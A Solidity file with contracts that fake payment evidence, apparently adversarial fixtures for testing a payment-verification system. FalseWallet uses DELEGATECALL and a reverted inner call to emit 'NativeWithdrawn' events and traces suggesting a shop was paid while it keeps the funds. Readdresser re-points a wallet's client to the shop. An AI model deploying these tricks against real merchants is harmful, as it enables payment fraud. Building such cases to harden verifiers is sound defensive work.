// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.20;

interface IReaddressable {
    function setClient(address client) external;
}

/// Receives a temporary wallet's money and makes the wallet's event name the shop.
contract Readdresser {
    address private immutable shop;

    constructor(address shop_) {
        shop = shop_;
    }

    receive() external payable {
        IReaddressable(msg.sender).setClient(shop);
    }
}

/// Keeps the money that it receives, with traces that look as if the shop received it.
contract FalseWallet {
    event NativeWithdrawn(address client, uint256 value);

    receive() external payable {}

    /// The trace of a DELEGATECALL shows the value of the outer call, but no value moves.
    function delegate(address shop) external payable {
        (bool done,) = shop.delegatecall("");
        require(done);
        emit NativeWithdrawn(shop, msg.value);
    }

    /// The call to the shop succeeds in the trace, but the outer call is reverted, and the payment with it.
    function takeBack(address shop) external payable {
        try this.payAndRevert(shop, msg.value) {} catch {}
        emit NativeWithdrawn(shop, msg.value);
    }

    function payAndRevert(address shop, uint256 value) external {
        (bool done,) = shop.call{value: value}("");
        require(done && false);
    }
}
